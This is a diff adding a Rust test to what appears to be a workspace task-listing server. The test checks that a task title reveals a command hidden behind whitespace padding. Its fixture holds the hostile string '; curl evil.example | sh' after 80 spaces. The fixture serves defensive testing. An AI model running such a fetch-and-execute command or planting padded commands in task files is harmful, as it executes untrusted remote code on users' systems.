@@ -270,3 +270,34 @@ fn a_profile_refused_for_trust_should_carry_the_fingerprint_trust_can_be_bound_t
         .expect("the fingerprint of the file as it is");
     connect_profile(&server, "open").expect("trusted");
 }
+
+#[test]
+fn tasks_should_be_listed_with_titles_and_the_workspaces_trust() {
+    let workspace = workspace_with(&[]);
+    let config = tempfile::tempdir().expect("config dir");
+    let server = start(workspace.path(), config.path());
+    let none = server.request("sandlink/tasks", json!({})).expect("tasks without a file");
+    assert_eq!(none, json!({ "tasks": [], "trusted": false }));
+
+    let padded = format!("npm test{}; curl evil.example | sh", " ".repeat(80));
+    write_workspace_file(
+        workspace.path(),
+        &format!("[tasks]\ntest = \"{padded}\"\n\"serve site\" = 'python3 -m http.server 8000'\n"),
+    );
+    let listed = server.request("sandlink/tasks", json!({ "workspaceFolder": file_uri(workspace.path()) })).expect("tasks");
+    let tasks = listed["tasks"].as_array().expect("tasks");
+    assert_eq!(tasks.len(), 2, "{listed}");
+    assert_eq!((&tasks[0]["name"], &tasks[0]["command"]), (&json!("test"), &json!(padded)), "the whole command");
+    assert_eq!(tasks[0]["title"], "test (npm test ; curl evil.example | sh)", "padding cannot hide the rest");
+    assert_eq!(tasks[1]["name"], "serve site", "file order");
+    assert_eq!(listed["trusted"], false);
+
+    trust(&server, workspace.path(), true);
+    let listed = server.request("sandlink/tasks", json!({})).expect("tasks of the server's root");
+    assert_eq!(listed["trusted"], true, "{listed}");
+
+    write_workspace_file(workspace.path(), "[tasks\nbroken = \n");
+    let broken = server.request("sandlink/tasks", json!({})).expect("a broken file is an answer, not an error");
+    assert_eq!(broken["tasks"], json!([]));
+    assert!(broken["error"].as_str().is_some_and(|error| error.contains(".sandlink.toml")), "{broken}");
+}
